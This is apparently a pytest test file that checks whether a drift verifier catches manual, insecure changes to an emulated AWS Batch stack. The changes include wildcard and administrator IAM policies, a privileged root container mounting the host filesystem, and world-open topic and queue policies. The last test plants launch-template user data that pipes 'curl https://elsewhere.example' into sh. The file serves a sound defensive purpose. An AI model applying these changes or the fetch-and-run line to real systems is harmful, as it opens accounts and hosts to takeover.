"""`scripts/verify` over a stack in which someone changes one thing after another by hand."""

from __future__ import annotations

import argparse
import base64
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest

from ops import names
from ops.aws import Aws
from ops.commands import verify
from tests.functional.conftest import ACCESS_KEY, SECRET_KEY, Server
from tests.functional.deployed_stack import DeployedStack
from tests.functional.operating import (
    FIRST,
    batch_server,
    ops,
    prepare_account,
    push_image,
    revise_definition,
)

SECRET = "arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:"
ALERTS = "ops@academy.example"
# What a stack has with every option, but for EventBridge's calls, which moto cannot deploy.
OPTIONS = {
    "AlertEmail": ALERTS,
    "StoreSecret": SECRET + "store",
    "NotifySecret": SECRET + "notify",
    "NotifyUrl": "https://api.example/hook",
}
CALLS = {"EventsUrl": "https://api.example/events", "EventsSecret": SECRET + "events"}
# moto's answers have no update policy.
NOT_IN_MOTO = "ComputeEnvironment UpdatePolicy"
ANYONE = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
}


@dataclass(frozen=True, kw_only=True)
class Deployed:
    """The stack, and how it is verified: in this process, with one set of clients."""

    server: Server
    stack: DeployedStack
    aws: Aws

    def verify(self, **options: Any) -> int:
        given = {"stack": names.STACK, "all": False, "cloudformation_drift": False, "wait": 60.0}
        return verify.run(argparse.Namespace(**{**given, **options}), self.aws)

    def id(self, name: str) -> str:
        return self.stack.ids[name]


@pytest.fixture(scope="module")
def deployed() -> Iterator[Deployed]:
    with pytest.MonkeyPatch.context() as patch, batch_server() as server:
        patch.setenv("AWS_ACCESS_KEY_ID", ACCESS_KEY)
        patch.setenv("AWS_SECRET_ACCESS_KEY", SECRET_KEY)
        account = prepare_account(server)
        done = ops(server, "deploy", "--image", FIRST, *account.parameters(**OPTIONS))
        assert done.returncode == 0, done.stderr
        parameters = {**account.values(), **OPTIONS, **CALLS, "ImageUri": FIRST}
        stack = DeployedStack(server=server, parameters=parameters)
        stack.complete()
        push_image(server)
        # moto garbles list parameters, and has no ids of what it passes over.
        patch.setattr(verify, "find_ids", lambda *_: stack.ids)
        patch.setattr(verify, "parameters_of", lambda _: stack.parameters)
        aws = Aws(region=names.REGION, profile=None, endpoint_url=server.endpoint)
        yield Deployed(server=server, stack=stack, aws=aws)


def drifts(text: str) -> list[str]:
    """Return what is drift, without the physical id, which changes each time."""
    found = [line.removeprefix("DRIFT ") for line in text.splitlines() if line.startswith("DRIFT")]
    short = [
        f"{line.partition(' (')[0]}{line.partition(')')[2]}" if " (" in line else line
        for line in found
    ]
    return [line for line in short if not line.startswith(NOT_IN_MOTO)]


def test_the_stack_is_as_its_template_says(
    deployed: Deployed, capsys: pytest.CaptureFixture[str]
) -> None:
    deployed.verify(all=True)
    lines = capsys.readouterr().out.splitlines()
    assert drifts("\n".join(lines)) == []
    assert not [line for line in lines if line.startswith("UNKNOWN")]
    job = "ok    JobDefinition (academy-video-batch-jobdef:2)"
    assert f"{job} Timeout.AttemptDurationSeconds: 14400" in lines
    assert f"{job} ContainerProperties.ReadonlyRootFilesystem: true" in lines
    assert "ok    ComputeEnvironment (academy-video-batch-ce-v3) architecture: arm64" in lines


Act = Callable[[Deployed], object]


def call(client: str, operation: str, /, **arguments: Any) -> Act:
    """Call AWS; a text such as `{JobRole}` in an argument is that resource's id."""

    def filled(value: object, ids: Mapping[str, str]) -> object:
        if isinstance(value, str) and value.startswith("{") and value.endswith("}"):
            return ids.get(value[1:-1], value)
        return value

    def act(deployed: Deployed) -> None:
        ids = deployed.stack.ids
        given = {name: filled(value, ids) for name, value in arguments.items()}
        getattr(deployed.server.client(client), operation)(**given)

    return act


def revise(**container: Any) -> Act:
    """Register a revision by hand, as an operator in a hurry might."""

    def act(deployed: Deployed) -> None:
        revise_definition(deployed.server, container=container)

    return act


def deregister(deployed: Deployed) -> None:
    """Deregister whatever is newer than the stack's own revision."""
    batch = deployed.server.client("batch")
    for each in batch.describe_job_definitions(jobDefinitionName=names.JOB_DEFINITION)[
        "jobDefinitions"
    ]:
        if each["revision"] > int(deployed.id("JobDefinition").rpartition(":")[2]):
            batch.deregister_job_definition(jobDefinition=each["jobDefinitionArn"])


def complete(deployed: Deployed) -> None:
    """Make again what the template has."""
    deployed.stack.complete()


def pushed(deployed: Deployed) -> None:
    push_image(deployed.server)


def repository_gone(deployed: Deployed) -> None:
    deployed.server.client("ecr").delete_repository(repositoryName=names.REPOSITORY, force=True)


def repository_made(deployed: Deployed) -> None:
    deployed.server.client("ecr").create_repository(
        repositoryName=names.REPOSITORY, imageTagMutability="IMMUTABLE"
    )
    complete(deployed)
    pushed(deployed)


def unsubscribe(deployed: Deployed) -> None:
    deployed.server.client("sns").unsubscribe(SubscriptionArn=deployed.id("AlertSubscription"))


def extra_target(deployed: Deployed) -> None:
    target = {"Id": "mine", "Arn": "arn:aws:sqs:ap-northeast-2:123456789012:mine"}
    deployed.server.client("events").put_targets(Rule=names.FAILED_RULE, Targets=[target])


def open_topic(deployed: Deployed) -> None:
    topic = deployed.id("AlertTopic")
    statement = {"Effect": "Allow", "Principal": "*", "Action": "sns:Publish", "Resource": topic}
    deployed.server.client("sns").set_topic_attributes(
        TopicArn=topic,
        AttributeName="Policy",
        AttributeValue=json.dumps({"Version": "2012-10-17", "Statement": [statement]}),
    )


def two_alarms_off(deployed: Deployed) -> None:
    cloudwatch = deployed.server.client("cloudwatch")
    cloudwatch.disable_alarm_actions(AlarmNames=[names.FAILED_ALARM])
    cloudwatch.delete_alarms(AlarmNames=[names.NEAR_DEADLINE_ALARM])


def other_threshold(deployed: Deployed) -> None:
    cloudwatch = deployed.server.client("cloudwatch")
    (there,) = cloudwatch.describe_alarms(AlarmNames=[names.BLOCKED_ALARM])["MetricAlarms"]
    kept = (
        *("AlarmName", "Namespace", "MetricName", "Dimensions", "Statistic", "Period"),
        *("EvaluationPeriods", "ComparisonOperator", "TreatMissingData", "AlarmDescription"),
    )
    cloudwatch.put_metric_alarm(
        **{name: there[name] for name in kept}, Threshold=100.0, AlarmActions=[]
    )


QUEUE = {"jobQueue": names.QUEUE}
POLICY = {"RoleName": "{JobRole}", "PolicyName": "transcode"}
EXTRA = {"RoleName": "{JobRole}", "PolicyName": "more"}
ADMIN = {"RoleName": "{JobRole}", "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}
LOGS = {"logGroupName": names.LOG_GROUP}
CONTAINER = "JobDefinition ContainerProperties"
NEWEST = "JobDefinition newest revision: expected"
CHANGES: dict[str, tuple[Act, Act, list[str]]] = {
    "a role that may do anything": (
        call("iam", "put_role_policy", **POLICY, PolicyDocument=json.dumps(ANYONE)),
        complete,
        # Each statement of the template is missing, and one is there instead.
        ["JobRole Policies[transcode].PolicyDocument.Statement: expected"] * 4,
    ),
    "another policy within a role": (
        call("iam", "put_role_policy", **EXTRA, PolicyDocument=json.dumps(ANYONE)),
        call("iam", "delete_role_policy", **EXTRA),
        ["JobRole Policies[more]: expected nothing, found"],
    ),
    "another policy attached to a role": (
        call("iam", "attach_role_policy", **ADMIN),
        call("iam", "detach_role_policy", **ADMIN),
        ["JobRole ManagedPolicyArns: expected nothing, found"],
    ),
    "others may assume a role": (
        call(
            "iam",
            "update_assume_role_policy",
            RoleName="{ExecutionRole}",
            PolicyDocument=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}
                    ],
                }
            ),
        ),
        call(
            "iam",
            "update_assume_role_policy",
            RoleName="{ExecutionRole}",
            PolicyDocument=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Principal": {"Service": "ecs-tasks.amazonaws.com"},
                            "Action": "sts:AssumeRole",
                        }
                    ],
                }
            ),
        ),
        ["ExecutionRole AssumeRolePolicyDocument.Statement: expected"],
    ),
    "a privileged revision": (
        revise(
            privileged=True, user="root", ulimits=[{"name": "n", "hardLimit": 1, "softLimit": 1}]
        ),
        deregister,
        [
            f"{CONTAINER}.Privileged: expected nothing, found true",
            f"{CONTAINER}.Ulimits[n]: expected nothing, found",
            f"{CONTAINER}.User: expected nothing, found root",
            f"{NEWEST} academy-video-batch-jobdef:2, found academy-video-batch-jobdef:3",
        ],
    ),
    "a revision with another image and a folder of the host": (
        revise(
            image="academy-video-worker:latest",
            volumes=[{"name": "host", "host": {"sourcePath": "/"}}],
            mountPoints=[{"containerPath": "/host", "sourceVolume": "host"}],
            environment=[{"name": "AWS_SECRET_ACCESS_KEY", "value": "hidden"}],
        ),
        deregister,
        [
            f"{CONTAINER}.Environment[AWS_REGION]: expected",
            f"{CONTAINER}.Environment[AWS_SECRET_ACCESS_KEY]: expected nothing, found a value (not",
            f"{CONTAINER}.Environment[WORKER_LOG_GROUP]: expected",
            f"{CONTAINER}.Environment[WORKER_NOTIFY]: expected",
            f"{CONTAINER}.Image: expected {FIRST}, found academy-video-worker:",
            f"{CONTAINER}.MountPoints: expected nothing, found",
            f"{CONTAINER}.Volumes[host]: expected nothing, found",
            NEWEST,
        ],
    ),
    "no image of that digest": (
        call(
            "ecr",
            "batch_delete_image",
            repositoryName=names.REPOSITORY,
            imageIds=[{"imageDigest": FIRST.rpartition("@")[2]}],
        ),
        pushed,
        [f"image: expected {FIRST}, found nothing of this digest in academy-video-worker"],
    ),
    "no repository": (
        repository_gone,
        repository_made,
        ["Repository: expected a resource, found nothing", "image: expected"],
    ),
    "images expire by age": (
        call(
            "ecr",
            "put_lifecycle_policy",
            repositoryName=names.REPOSITORY,
            lifecyclePolicyText=json.dumps(
                {
                    "rules": [
                        {
                            "rulePriority": 1,
                            "selection": {
                                "tagStatus": "any",
                                "countType": "sinceImagePushed",
                                "countUnit": "days",
                                "countNumber": 14,
                            },
                            "action": {"type": "expire"},
                        }
                    ]
                }
            ),
        ),
        complete,
        ["Repository LifecyclePolicy.LifecyclePolicyText.rules: expected"],
    ),
    "tags can be moved": (
        call(
            "ecr",
            "put_image_tag_mutability",
            repositoryName=names.REPOSITORY,
            imageTagMutability="MUTABLE",
        ),
        call(
            "ecr",
            "put_image_tag_mutability",
            repositoryName=names.REPOSITORY,
            imageTagMutability="IMMUTABLE",
        ),
        ["Repository ImageTagMutability: expected IMMUTABLE, found MUTABLE"],
    ),
    "nobody is subscribed": (
        unsubscribe,
        complete,
        ["AlertSubscription: expected a resource, found nothing"],
    ),
    "anyone may publish alerts": (
        open_topic,
        complete,
        ["AlertTopicPolicy PolicyDocument.Statement: expected"] * 2,
    ),
    "another target": (
        extra_target,
        call("events", "remove_targets", Rule=names.FAILED_RULE, Ids=["mine"]),
        ["FailedJobRule Targets[mine]: expected nothing, found"],
    ),
    "no target": (
        call("events", "remove_targets", Rule=names.BLOCKED_RULE, Ids=["alert"]),
        complete,
        ["QueueBlockedRule Targets[alert]: expected"],
    ),
    "a rule is off": (
        call("events", "disable_rule", Name=names.FAILED_RULE),
        call("events", "enable_rule", Name=names.FAILED_RULE),
        ["FailedJobRule State: expected ENABLED, found DISABLED"],
    ),
    "logs are kept for a day": (
        call("logs", "put_retention_policy", **LOGS, retentionInDays=1),
        call("logs", "put_retention_policy", **LOGS, retentionInDays=90),
        ["LogGroup RetentionInDays: expected 90, found 1"],
    ),
    "no metric filter": (
        call("logs", "delete_metric_filter", **LOGS, filterName=names.NEAR_DEADLINE_FILTER),
        complete,
        ["NearDeadlineFilter: expected a resource, found nothing"],
    ),
    "a queue of another priority": (
        call("batch", "update_job_queue", **QUEUE, priority=9),
        call("batch", "update_job_queue", **QUEUE, priority=1),
        ["JobQueue Priority: expected 1, found 9"],
    ),
    "a queue that is off": (
        call("batch", "update_job_queue", **QUEUE, state="DISABLED"),
        call("batch", "update_job_queue", **QUEUE, state="ENABLED"),
        ["JobQueue State: expected ENABLED, found DISABLED"],
    ),
    "an environment that is off": (
        call(
            "batch",
            "update_compute_environment",
            computeEnvironment="{ComputeEnvironment}",
            state="DISABLED",
        ),
        call(
            "batch",
            "update_compute_environment",
            computeEnvironment="{ComputeEnvironment}",
            state="ENABLED",
        ),
        ["ComputeEnvironment State: expected ENABLED, found DISABLED"],
    ),
    "alarms that nobody hears": (
        two_alarms_off,
        complete,
        [
            "FailedJobsAlarm ActionsEnabled: expected nothing, found false",
            "NearDeadlineAlarm: expected a resource, found nothing",
        ],
    ),
    "an alarm of another threshold": (
        other_threshold,
        complete,
        [
            "QueueBlockedAlarm AlarmActions: expected",
            "QueueBlockedAlarm Threshold: expected 1, found 100",
        ],
    ),
    "a queue of lost events that anyone may fill": (
        call(
            "sqs",
            "set_queue_attributes",
            QueueUrl="{EventsDeadLetters}",
            Attributes={"Policy": json.dumps({**ANYONE, "Version": "2012-10-17"})},
        ),
        complete,
        ["EventsDeadLettersPolicy PolicyDocument.Statement: expected"],
    ),
    "events that call another URL": (
        call(
            "events",
            "update_api_destination",
            Name=names.EVENTS,
            InvocationEndpoint="https://elsewhere.example/",
        ),
        call(
            "events",
            "update_api_destination",
            Name=names.EVENTS,
            InvocationEndpoint=CALLS["EventsUrl"],
        ),
        ["EventsDestination InvocationEndpoint: expected https://api.example/events, found"],
    ),
}


@pytest.mark.parametrize("name", CHANGES)
def test_what_someone_changes_by_hand_is_drift_and_nothing_else_is(
    deployed: Deployed, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    change, restore, expected = CHANGES[name]
    change(deployed)
    try:
        status = deployed.verify()
    finally:
        restore(deployed)
    text = capsys.readouterr().out
    found = drifts(text)
    assert [line[: len(start)] for line, start in zip(found, expected, strict=True)] == expected
    assert status == 1
    assert "hidden" not in text


def test_user_data_of_someone_else_is_drift(
    deployed: Deployed, capsys: pytest.CaptureFixture[str]
) -> None:
    """And the environment, which runs the version before it, is as it was. moto deletes no version,
    so this is the last test.
    """
    ec2, launch_template = deployed.server.client("ec2"), deployed.id("LaunchTemplate")
    (first,) = ec2.describe_launch_template_versions(LaunchTemplateId=launch_template)[
        "LaunchTemplateVersions"
    ]
    user_data = base64.b64encode(b"#!/bin/sh\ncurl https://elsewhere.example | sh").decode()
    ec2.create_launch_template_version(
        LaunchTemplateId=launch_template,
        LaunchTemplateData={**first["LaunchTemplateData"], "UserData": user_data, "KeyName": "k"},
    )
    assert deployed.verify() == 1
    assert [line.partition(", ")[0] for line in drifts(capsys.readouterr().out)] == [
        "LaunchTemplate LaunchTemplateData.KeyName: expected nothing",
        "LaunchTemplate LaunchTemplateData.UserData: expected nothing",
    ]
